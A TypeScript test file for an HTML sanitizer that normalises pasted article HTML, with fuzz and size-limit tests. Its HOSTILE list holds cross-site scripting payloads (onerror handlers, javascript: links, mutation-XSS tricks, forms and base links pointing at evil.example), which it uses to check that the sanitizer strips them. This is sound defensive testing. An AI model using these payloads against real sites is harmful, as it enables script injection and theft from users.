import { describe, expect, it } from 'vitest';
import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5';
import fc from 'fast-check';
import { ARTICLE_LIMITS, ContentProblem, renderHtml } from '../schema/index.ts';
import { parseHtml } from './index.ts';

const clean = (html: string): string => renderHtml(parseHtml(html, ARTICLE_LIMITS));

describe('HTML from elsewhere', () => {
  it.each([
    ['words alone', 'Hello', '<p>Hello</p>'],
    ['nothing', '', '<p></p>'],
    ['marks under their other names', '<b>a</b><i>b</i><del>c</del><strike>d</strike>', '<p><strong>a</strong><em>b</em><s>cd</s></p>'],
    ['alignment as a style', '<h2 style="color:red; text-align: center">x</h2>', '<h2 data-align="center">x</h2>'],
    ['alignment as we write it', '<p data-align="right">x</p>', '<p data-align="right">x</p>'],
    ['a heading below the third', '<h5>x</h5>', '<p>x</p>'],
    [
      'lists in lists',
      '<ul><li>a<ol start="2"><li>b</li></ol></li></ul>',
      '<ul><li><p>a</p><ol start="2"><li><p>b</p></li></ol></li></ul>',
    ],
    ['a list put right into a list', '<ul><li>a</li><ul><li>b</li></ul></ul>', '<ul><li><p>a</p><ul><li><p>b</p></li></ul></li></ul>'],
    ['a paragraph in code', '<pre><p>a\t<b> b</b><br> c</p>', '<pre><code></code></pre><p>a <strong>b</strong><br/>c</p>'],
    ['code', '<pre><code class="hljs language-ts">a\n  b</code></pre>', '<pre><code class="language-ts">a\n  b</code></pre>'],
    ['white space', '<p>  a \n  b </p>\n\n<p>c</p>', '<p>a b</p><p>c</p>'],
    [
      'a picture in the middle of words',
      'a<img src="https://example.com/a.png" width="300">b',
      '<p>a</p><img src="https://example.com/a.png" width="100%" data-align="center" alt=""/><p>b</p>',
    ],
    ['a table', '<table><tr><td>a</td><td>b</td></tr></table>', '<p>a</p><p>b</p>'],
    ['a quotation', '<blockquote><p>x</p></blockquote>', '<p>x</p>'],
  ])('%s', (_name, html, expected) => {
    expect(clean(html)).toBe(expected);
    expect(clean(expected)).toBe(expected);
  });
});

const HOSTILE = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://example.com/a.png" onerror="alert(1)" style="position:fixed" srcset="javascript:x">',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="https://example.com" onclick="alert(1)" target="_top" ping="https://evil.example">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="x">',
  '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)><button>x</button></form>',
  '<style>@import "https://evil.example"</style><link rel=stylesheet href=x><meta http-equiv=refresh content="0;url=x"><base href="//evil.example">',
  '<p style="background:url(javascript:alert(1))" class="x" id="y">x</p>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<plaintext><script>alert(1)</script>',
  '<video><source onerror="alert(1)"></video>',
  '<pre><code class="language-x&quot;onmouseover=&quot;alert(1)">x</code></pre>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<b <script>alert(1)</script>0',
  '\0<scr\0ipt>alert(1)</scr\0ipt>',
];

/** Names of elements and attributes that may be in what we render, and nothing else. */
const ELEMENTS = new Set('p br h1 h2 h3 ul ol li pre code img a strong em u s #text'.split(' '));
const ATTRIBUTES = new Set('data-align start class src width alt target rel href'.split(' '));

function foreign(html: string): string[] {
  const found: string[] = [];
  const waiting: DefaultTreeAdapterTypes.ChildNode[] = [...parseFragment(html).childNodes];
  for (let node = waiting.pop(); node; node = waiting.pop()) {
    if (!ELEMENTS.has(node.nodeName)) found.push(node.nodeName);
    if (!('attrs' in node)) continue;
    for (const { name, value } of node.attrs) {
      if (!ATTRIBUTES.has(name)) found.push(name);
      if ((name === 'href' || name === 'src') && !/^https?:\/\//.test(value)) found.push(value);
    }
    waiting.push(...node.childNodes);
  }
  return found;
}

describe('hostile HTML', () => {
  it.each(HOSTILE)('loses what it could do: %s', (html) => {
    expect(foreign(clean(html))).toEqual([]);
    expect(foreign(clean(`<ul><li>${html}</ul>`))).toEqual([]);
  });

  it('of any making has nothing foreign in it, and stays as it is when it is read again', () => {
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.constantFrom(
        '<p>',
        '</p>',
        '<ul>',
        '<li>',
        '</ul>',
        '<ol start=3>',
        '<pre>',
        '<b>',
        '</b>',
        '<a href="https://example.com">',
        '<br>',
        '<h1>',
        '<code>',
      ),
      fc.string({ unit: 'binary', maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const once = clean(pieces.join(''));
        expect(foreign(once)).toEqual([]);
        expect(clean(once)).toBe(once);
      }),
      { numRuns: 300 },
    );
  });

  it.each([
    ['elements in one another', '<b>'.repeat(50_000)],
    ['blocks in one another', '<div>'.repeat(30_000)],
    ['links that reopen in every paragraph', '<a><b><i><u>'.repeat(15_000)],
    ['paragraphs', '<p>x</p>'.repeat(20_000)],
    ['lists', '<ul><li>x'.repeat(5000)],
    ['bytes', 'a'.repeat(200_001)],
  ])('is refused when it has too many %s', (_name, html) => {
    expect(() => clean(html)).toThrow(ContentProblem);
  });
});
